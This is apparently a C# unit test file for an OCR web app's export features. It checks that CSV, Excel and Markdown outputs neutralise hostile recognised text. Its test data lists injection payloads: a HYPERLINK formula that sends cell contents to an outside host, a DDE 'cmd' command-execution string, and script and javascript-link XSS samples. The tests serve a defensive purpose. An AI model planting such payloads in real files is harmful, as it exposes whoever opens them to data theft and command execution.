using System.IO.Compression;
using System.Text;
using System.Xml.Linq;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using HunyuanOcr.Inference;
using HunyuanOcr.Web.Documents;
using HunyuanOcr.Web.Recognise;
using MiniExcelLibs;

namespace HunyuanOcr.Web.Tests.Recognise;

public sealed class RunTableTests
{
    /// <summary>What an answer may hold to harm whoever opens a file of it.</summary>
    internal static readonly string[] Hostile =
    [
        "=HYPERLINK(\"http://elsewhere/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "<script>alert(1)</script>",
        "[x](javascript:alert(1))", "\",\"=1", "a\u0001b", "line\nbreak", "💣 שלום 日本",
    ];

    [Fact]
    public async Task No_cell_of_a_csv_file_begins_like_a_formula()
    {
        byte[] file = RunTable.Of([new(1, await HostileAsync())]).Csv();
        Assert.Equal([0xEF, 0xBB, 0xBF], file[..3]);
        List<string[]> rows = Rows(Encoding.UTF8.GetString(file.AsSpan(3)));
        Assert.Equal(["line", "text", "left", "top", "right", "bottom", "confidence"], rows[0]);
        Assert.Equal(Hostile.Length, rows.Count - 1);
        Assert.All(rows.Skip(1), row => Assert.DoesNotContain(row[1][0], SafeCell.Formula));
        Assert.Equal("'" + Hostile[0], rows[1][1]);
        Assert.Equal(Hostile[5], rows[6][1]);
        Assert.Equal("0.97", rows[1][6]);
    }

    [Fact]
    public async Task A_workbook_holds_text_as_text_and_numbers_as_numbers_and_no_formula()
    {
        byte[] file = RunTable.Of([new(1, await HostileAsync())]).Xlsx();
        using (ZipArchive zip = new(new MemoryStream(file)))
        {
            XDocument sheet = XDocument.Load(zip.GetEntry("xl/worksheets/sheet1.xml")!.Open());
            Assert.DoesNotContain(sheet.Descendants(), element => element.Name.LocalName == "f");
        }
        List<IDictionary<string, object?>> rows = [.. MiniExcel.Query(new MemoryStream(file), useHeaderRow: true).Cast<IDictionary<string, object?>>()];
        Assert.Equal(Hostile.Length, rows.Count);
        Assert.Equal("'" + Hostile[0], rows[0]["text"]);
        Assert.Equal(0.97, rows[0]["confidence"]);
        Assert.Equal(Hostile[^1], rows[^1]["text"]);
    }

    [Fact]
    public async Task Several_pages_have_a_column_for_the_page()
    {
        RunView view = await HostileAsync();
        RunTable table = RunTable.Of([new(1, view), new(2, view)]);
        Assert.Equal("page", table.Columns[0]);
        Assert.Equal([1, 2], table.Rows.Select(row => row[0]).Distinct());
    }

    [Fact]
    public async Task A_run_that_read_nothing_still_makes_both_files()
    {
        RunView view = await ReadAsync(new ScriptedAnswer([]));
        Assert.Single(Rows(Encoding.UTF8.GetString(RunTable.Of([new(1, view)]).Csv().AsSpan(3))));
        Assert.NotEmpty(RunTable.Of([new(1, view)]).Xlsx());
    }

    [Fact]
    public async Task Markdown_of_hostile_lines_shows_them_as_text()
    {
        RunView view = await HostileAsync();
        IElement body = new HtmlParser().ParseDocument(MarkdownPage.Html(MarkdownSource.Of(view))).Body!;
        Assert.Empty(body.QuerySelectorAll("script, a, img"));
        Assert.Contains("<script>alert(1)</script>", body.TextContent, StringComparison.Ordinal);
        Assert.Contains("[x](javascript:alert(1))", body.TextContent, StringComparison.Ordinal);
    }

    private static Task<RunView> HostileAsync() => ReadAsync(new ScriptedAnswer([.. Hostile.Select(text => (text, (OcrBox?)new OcrBox(10, 10, 900, 50), 0.97))]));

    private static Task<RunView> ReadAsync(ScriptedAnswer answer) => RecogniseRunTests.ReadAsync(
        new StoredDocument("d", "o", "a.png", "c", "image/png", 10, 1240, 1754, DateTimeOffset.UnixEpoch),
        new ScriptedReader { Script = (_, cancel) => (answer with { Pace = TimeSpan.Zero }).PlayAsync(cancel) });

    /// <summary>Records of a CSV text; quoted cells may hold line ends.</summary>
    private static List<string[]> Rows(string text)
    {
        using CsvHelper.CsvReader reader = CsvHelper.CsvReader.Create(new StringReader(text), CsvHelper.CsvReaderOptions.Default with { HasHeader = false });
        List<string[]> rows = [];
        while (reader.Read())
            rows.Add([.. Enumerable.Range(0, reader.FieldCount).Select(reader.GetString)]);
        return rows;
    }
}
